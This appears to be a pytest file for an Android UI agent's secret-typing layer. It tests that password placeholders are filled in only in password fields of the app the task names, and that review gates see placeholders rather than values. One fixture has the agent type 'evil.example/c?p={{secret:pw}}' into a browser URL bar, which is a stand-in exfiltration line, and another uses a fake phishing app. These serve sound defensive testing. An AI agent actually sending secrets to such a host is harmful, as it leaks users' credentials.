"""SecretTyping: placeholders are typed as their values, the outcomes above the driver hold
only placeholders, and what goes into a password field where it is typed becomes a secret."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import pytest
from PIL import Image

from omg_agent.core.actions import Action, ElementTarget, Tap, TypeText, parse_action
from omg_agent.core.geometry import Bounds
from omg_agent.core.observation import Observation, UIElement
from omg_agent.core.secrets import SecretVault
from omg_agent.drivers.base import ActionOutcome, DeviceInfo, ExecResult
from omg_agent.drivers.ports import Planned
from omg_agent.drivers.secret_typing import SecretTyping
from omg_agent.errors import ActionRejected


def _field(i: int, *, password: bool = False, focused: bool = False) -> UIElement:
    return UIElement(id=i, cls="android.widget.EditText", role="input", editable=True,
                     password=password, focused=focused,
                     bounds=Bounds(0, 100 * i, 1000, 100 * i + 80))


def _screen(*elements: UIElement) -> Observation:
    return Observation(screenshot=Image.new("RGB", (100, 100)), elements=elements)


class ScriptedDriver:
    """Runs nothing: plans each action as the executor does — element targets resolved on
    the observation it is given, untargeted text on the focused field — shows the plan to
    ``review`` and says what it typed (text included) for what the review let go."""

    def __init__(self) -> None:
        self.ran: list[Action] = []

    def info(self) -> DeviceInfo:
        return DeviceInfo("fake-1", 100, 100, 160)

    def execute(self, actions: Sequence[Action],
                observation: Observation | None = None, *, review: Any = None) -> ExecResult:
        plans = []
        for i, action in enumerate(actions):
            target = getattr(action, "target", None)
            element = (observation.element(target.id) if observation is not None
                       and isinstance(target, ElementTarget) else None)
            if isinstance(action, TypeText) and target is None and observation is not None:
                element = observation.focused
            plans.append(Planned(i, action, element=element))
        held = review.review(plans, observation) if review is not None else None
        outcomes = []
        for plan in plans[:held]:
            action = plan.action
            self.ran.append(action)
            detail = f"typed {action.text!r}" if isinstance(action, TypeText) else "tapped"
            outcomes.append(ActionOutcome(plan.index, action, True, detail,
                                          element=plan.element))
        return ExecResult(tuple(outcomes), dropped=len(actions) - len(outcomes),
                          device_calls=1)


def _type(text: str, target: int | None = None) -> TypeText:
    data: dict = {"type": "type", "text": text}
    if target is not None:
        data["target"] = {"kind": "element", "id": target}
    action = parse_action(data)
    assert isinstance(action, TypeText)
    return action


def test_a_placeholder_is_typed_as_its_value_and_comes_back_as_the_placeholder() -> None:
    vault = SecretVault({"pw": "omg5865"})
    inner = ScriptedDriver()
    result = SecretTyping(inner, vault).execute([_type("{{secret:pw}}", 1)],
                                                _screen(_field(1, password=True)))
    assert [a.text for a in inner.ran if isinstance(a, TypeText)] == ["omg5865"]
    outcome = result.outcomes[0]
    assert isinstance(outcome.action, TypeText) and outcome.action.text == "{{secret:pw}}"
    assert "omg5865" not in outcome.detail and "{{secret:pw}}" in outcome.detail


def test_text_typed_into_a_password_field_of_the_screen_it_is_typed_on_is_learned() -> None:
    vault = SecretVault()
    login = _screen(_field(1), _field(2, password=True))
    SecretTyping(ScriptedDriver(), vault).execute(
        [_type("demo-user", 1), _type("pa55word-A", 2)], login)
    assert vault.names == ["password"] and vault.value("password") == "pa55word-A"


def test_untargeted_text_goes_to_the_field_a_tap_just_focused() -> None:
    vault = SecretVault()
    login = _screen(_field(1, focused=True), _field(2, password=True))
    tap = Tap(target=ElementTarget(id=2))
    SecretTyping(ScriptedDriver(), vault).execute([tap, _type("pa55word-B")], login)
    assert vault.value("password") == "pa55word-B"


def test_untargeted_text_into_a_focused_password_field_is_learned() -> None:
    vault = SecretVault()
    SecretTyping(ScriptedDriver(), vault).execute(
        [_type("pa55word-C")], _screen(_field(1, password=True, focused=True)))
    assert vault.value("password") == "pa55word-C"


def test_text_into_an_ordinary_field_is_not_a_secret() -> None:
    vault = SecretVault()
    SecretTyping(ScriptedDriver(), vault).execute([_type("hello world", 1)],
                                                  _screen(_field(1, focused=True)))
    assert len(vault) == 0


def test_an_unknown_placeholder_is_refused_before_anything_runs() -> None:
    inner = ScriptedDriver()
    with pytest.raises(ActionRejected, match="no secret named pin"):
        SecretTyping(inner, SecretVault()).execute([_type("{{secret:pin}}", 1)],
                                                   _screen(_field(1)))
    assert inner.ran == []


# -- secrets are bound to password fields of the task's app (issue 34 §3) -------------------
LOGIN, CHROME = "com.omg.login", "com.android.chrome"
TASK = "Sign in to Login as demo with password {{secret:pw}}"


def _in(package: str, i: int, *, password: bool = False, focused: bool = False,
        rid: str = "") -> UIElement:
    return UIElement(id=i, cls="android.widget.EditText", role="input", editable=True,
                     password=password, focused=focused, package=package,
                     resource_id=f"{package}:id/{rid}" if rid else "",
                     bounds=Bounds(0, 100 * i, 1000, 100 * i + 80))


def _vault(task: str | None = TASK) -> SecretVault:
    vault = SecretVault({"pw": "omg5865"})
    vault.task = task
    return vault


class Gate:
    """A caller's review (the gate's place): records what it was shown, lets all run."""

    unseen = False

    def __init__(self) -> None:
        self.shown: list[str] = []

    def review(self, planned: Sequence[Planned], screen: Observation | None) -> int | None:
        self.shown += [p.action.text for p in planned if isinstance(p.action, TypeText)]
        return None

    def stopped(self, why: str, screen: Observation | None) -> None:
        raise AssertionError(why)


def test_a_secret_typed_into_a_url_bar_is_refused_and_never_reaches_the_device() -> None:
    inner, gate = ScriptedDriver(), Gate()
    url_bar = _in(CHROME, 1, focused=True, rid="url_bar")
    result = SecretTyping(inner, _vault()).execute(
        [_type("evil.example/c?p={{secret:pw}}", 1)], _screen(url_bar), review=gate)
    assert inner.ran == [] and gate.shown == []  # nobody is even asked about it
    [outcome] = result.outcomes
    assert not outcome.ok and isinstance(outcome.error, ActionRejected)
    assert outcome.detail.startswith("refused: {{secret:pw}} may be typed only into a "
                                     "password field") and "\n" not in outcome.detail
    assert "omg5865" not in repr(result)


def test_untargeted_text_after_a_tap_on_the_url_bar_is_judged_on_the_url_bar() -> None:
    inner = ScriptedDriver()
    screen = _screen(_in(LOGIN, 1, password=True, focused=True, rid="password"),
                     _in(LOGIN, 2, rid="search"))
    result = SecretTyping(inner, _vault()).execute(
        [Tap(target=ElementTarget(id=2)), _type("{{secret:pw}}")], screen)
    assert [type(a) for a in inner.ran] == [Tap]  # the tap ran; the secret did not
    assert "refused" in result.outcomes[-1].detail


def test_a_password_field_of_an_app_the_task_does_not_name_is_refused() -> None:
    inner = ScriptedDriver()
    phishing = _in("com.evil.signin", 1, password=True, rid="password")
    result = SecretTyping(inner, _vault()).execute([_type("{{secret:pw}}", 1)],
                                                   _screen(phishing))
    assert inner.ran == [] and "of the app the task names" in result.outcomes[0].detail


def test_the_password_field_of_the_app_the_task_names_gets_the_value() -> None:
    inner, gate = ScriptedDriver(), Gate()
    login = _in(LOGIN, 1, password=True, rid="password")
    result = SecretTyping(inner, _vault()).execute([_type("{{secret:pw}}", 1)],
                                                   _screen(login), review=gate)
    assert [a.text for a in inner.ran if isinstance(a, TypeText)] == ["omg5865"]
    assert gate.shown == ["{{secret:pw}}"]  # the gate judged the placeholder, not the value
    assert result.outcomes[0].ok


def test_a_bound_secret_goes_only_into_the_field_it_is_bound_to() -> None:
    from omg_agent.core.secrets import Binding

    vault = _vault("Open the app")  # the task names no app: the binding decides
    vault.bind("pw", Binding("Login", "pin"))
    screen = _screen(_in(LOGIN, 1, password=True, rid="password"),
                     _in(LOGIN, 2, password=True, rid="pin"))
    inner = ScriptedDriver()
    result = SecretTyping(inner, vault).execute([_type("{{secret:pw}}", 1)], screen)
    assert inner.ran == [] and "only into Login:pin" in result.outcomes[0].detail
    SecretTyping(inner, vault).execute([_type("{{secret:pw}}", 2)], screen)
    assert [a.text for a in inner.ran if isinstance(a, TypeText)] == ["omg5865"]


def test_the_api_key_is_never_a_typeable_secret() -> None:
    vault = _vault()
    vault.hide("api_key", "sk-live-0123456789abcdef")
    inner = ScriptedDriver()
    field = _in(LOGIN, 1, password=True, rid="password")
    with pytest.raises(ActionRejected, match="no secret named api_key"):
        SecretTyping(inner, vault).execute([_type("{{secret:api_key}}", 1)], _screen(field))
    assert inner.ran == [] and vault.mask("k=sk-live-0123456789abcdef") == \
        "k={{secret:api_key}}"


def test_a_driver_that_shows_no_plan_never_gets_the_value() -> None:
    class Blind(ScriptedDriver):
        def execute(self, actions: Sequence[Action], observation: Observation | None = None,
                    *, review: Any = None) -> ExecResult:
            return super().execute(actions, observation, review=None)

    inner = Blind()
    login = _in(LOGIN, 1, password=True, rid="password")
    SecretTyping(inner, _vault()).execute([_type("{{secret:pw}}", 1)], _screen(login))
    assert [a.text for a in inner.ran if isinstance(a, TypeText)] == ["{{secret:pw}}"]


def test_a_value_learned_in_a_password_field_stays_with_that_app() -> None:
    vault = SecretVault()
    vault.task = "Sign in to Login and then search in Chrome"
    SecretTyping(ScriptedDriver(), vault).execute(
        [_type("pa55word-D", 1)], _screen(_in(LOGIN, 1, password=True, rid="password")))
    inner = ScriptedDriver()
    result = SecretTyping(inner, vault).execute(
        [_type("{{secret:password}}", 1)], _screen(_in(CHROME, 1, password=True, rid="pw")))
    assert inner.ran == [] and "may be typed only in com.omg.login" in \
        result.outcomes[0].detail


def test_a_field_the_user_named_may_take_its_secret_even_when_it_is_no_password_field(
) -> None:
    from omg_agent.core.secrets import Binding

    vault = _vault()
    vault.add("user", "demo-account-7")
    vault.bind("user", Binding("Login", "username"))
    screen = _screen(_in(LOGIN, 1, rid="username"), _in(LOGIN, 2, rid="search"))
    inner = ScriptedDriver()
    SecretTyping(inner, vault).execute([_type("{{secret:user}}", 1)], screen)
    result = SecretTyping(inner, vault).execute([_type("{{secret:user}}", 2)], screen)
    assert [a.text for a in inner.ran if isinstance(a, TypeText)] == ["demo-account-7"]
    assert "--secret user@APP:FIELD" in result.outcomes[0].detail
